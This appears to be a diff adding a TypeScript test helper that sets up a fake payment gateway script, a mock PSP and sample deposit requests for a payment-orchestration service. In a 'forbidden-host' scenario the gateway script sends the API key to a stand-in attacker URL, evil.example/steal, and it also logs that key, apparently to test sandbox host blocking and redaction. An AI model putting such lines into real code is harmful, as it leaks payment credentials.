@@ -1,0 +1,131 @@
+import assert from 'node:assert/strict';
+import type { FastifyInstance } from 'fastify';
+import { adminToken } from './engine.js';
+import type { FakePsp } from './fake-psp.js';
+import { spec } from './spec-examples.js';
+
+/**
+ * A test-only gateway: a custom flow target whose DEPOSIT script calls `https://psp.test`, which
+ * the environment's host map points at a FakePsp. What the script does is chosen per
+ * transaction by `executePayload.body.scenario`.
+ */
+export const testGatewayScript = `
+const API = "https://psp.test";
+
+export async function initiate(ctx, sdk) {
+  const scenario = ctx.data.body.scenario ?? "redirect";
+  sdk.logger.info("initiate " + ctx.id + " for " + ctx.transaction.amount + " " + ctx.transaction.currency + " key " + ctx.credential.apiKey);
+  if (scenario === "throw-early") throw new Error("broke before calling the PSP");
+  if (scenario === "invalid") return { nope: true };
+  if (scenario === "forbidden-host") await sdk.http.get("https://evil.example/steal?k=" + ctx.credential.apiKey);
+  const res = await sdk.http.post(API + "/pay", {
+    headers: { Authorization: "Bearer " + ctx.credential.apiKey },
+    body: { orderId: ctx.id, amount: ctx.transaction.amount, currency: ctx.transaction.currency, scenario, card: ctx.data.body.card ?? null },
+  });
+  if (scenario === "throw-late") throw new Error("broke after calling the PSP");
+  if (scenario === "hang") await new Promise(() => {});
+  if (!res.success) return sdk.response.failure(res.data.message ?? "declined", 400);
+  const base = { orderId: ctx.id, userId: ctx.data.body.customer.id, pspTxnId: res.data.id };
+  if (res.data.redirectUrl) {
+    return sdk.response.success({ ...base, status: "success", navigation: { type: "redirect", contentType: "url", value: res.data.redirectUrl } });
+  }
+  return sdk.response.success({ ...base, status: res.data.state });
+}
+
+export async function status(ctx, sdk) {
+  const res = await sdk.http.get(API + "/payments/" + ctx.id);
+  return sdk.response.success({ status: res.data.state, pspTxnId: res.data.id });
+}
+`;
+
+/** What the fake gateway answers per scenario (the body's `scenario` field). */
+export function testGatewayHandler(request: { path: string; body: unknown }) {
+  const body = (request.body ?? {}) as { orderId?: string; scenario?: string };
+  const id = `pg_${body.orderId ?? 'unknown'}`;
+  switch (body.scenario) {
+    case 'success':
+      return { body: { id, state: 'SUCCESS' } };
+    case 'failed':
+      return { body: { id, state: 'FAILED' } };
+    case 'pending':
+      return { body: { id, state: 'PENDING' } };
+    case 'decline':
+      return { status: 402, body: { message: 'card declined by issuer' } };
+    default:
+      return { body: { id, redirectUrl: `https://pay.psp.test/checkout/${id}` } };
+  }
+}
+
+export const testCredential = { apiKey: 'test-api-key-7f3a9c' };
+
+export interface TestGateway {
+  targetId: string;
+  depositDefinitionId: string;
+  pspId: string;
+}
+
+/** Creates the target (admin API), maps psp.test to the fake PSP, and configures a PSP in the demo environment. */
+export async function setUpTestGateway(app: FastifyInstance, token: string, environmentId: string, psp: FakePsp, name = 'Test Gateway'): Promise<TestGateway> {
+  const admin = { authorization: `Bearer ${adminToken}`, 'content-type': 'application/json' };
+  const created = await app.inject({
+    method: 'POST',
+    url: '/admin/v1/flow-targets',
+    headers: admin,
+    payload: JSON.stringify({
+      name,
+      credentialSchema: { type: 'object', required: ['apiKey'], properties: { apiKey: { type: 'string' } }, additionalProperties: false },
+      allowedHosts: ['psp.test'],
+      actions: {
+        DEPOSIT: {
+          script: testGatewayScript,
+          description: 'TEST-DEPOSIT',
+          inputSchema: { type: 'object', required: ['customer'], properties: { customer: { type: 'object', required: ['id'] } } },
+        },
+      },
+    }),
+  });
+  assert.equal(created.statusCode, 201, created.body);
+  const target = created.json().data;
+  const depositDefinitionId = target.actions.find((a: { name: string }) => a.name === 'DEPOSIT').definition.id;
+  const mapped = await app.inject({
+    method: 'PATCH',
+    url: `/admin/v1/environments/${environmentId}`,
+    headers: admin,
+    payload: JSON.stringify({ hostMap: { 'https://psp.test': psp.origin } }),
+  });
+  assert.equal(mapped.statusCode, 200, mapped.body);
+  const pspRes = await app.inject({
+    method: 'POST',
+    url: '/connxt/v2/psps/external',
+    headers: { 'x-secret-token': token, 'content-type': 'application/json' },
+    payload: JSON.stringify({
+      name: `${name} PSP`,
+      credential: JSON.stringify(testCredential),
+      flowTargetId: target.id,
+      operations: [{ flowActionId: spec.actions.DEPOSIT, flowDefinitionId: depositDefinitionId, status: 'ENABLED' }],
+    }),
+  });
+  assert.equal(pspRes.statusCode, 200, pspRes.body);
+  return { targetId: target.id, depositDefinitionId, pspId: pspRes.json().data.id };
+}
+
+/** A deposit request as spec/001 step 3 shows it, for the test gateway. */
+export function depositBody(gateway: TestGateway, overrides: { scenario?: string; orderId?: string; amount?: unknown; currency?: string; body?: Record<string, unknown> } = {}) {
+  return {
+    flowActionId: spec.actions.DEPOSIT,
+    flowTargetId: gateway.targetId,
+    pspId: gateway.pspId,
+    transactionType: 'deposit',
+    txnCurrency: overrides.currency ?? 'USD',
+    txnAmount: overrides.amount ?? 200,
+    executePayload: {
+      body: {
+        order: { id: overrides.orderId ?? `order-${Math.random().toString(36).slice(2)}`, money: { amount: 200, currency: 'USD' } },
+        customer: { id: 'cust_001', firstName: 'Premium', lastName: 'Customer', email: 'customer.a@example.com' },
+        language: 'en',
+        scenario: overrides.scenario ?? 'redirect',
+        ...overrides.body,
+      },
+    },
+  };
+}
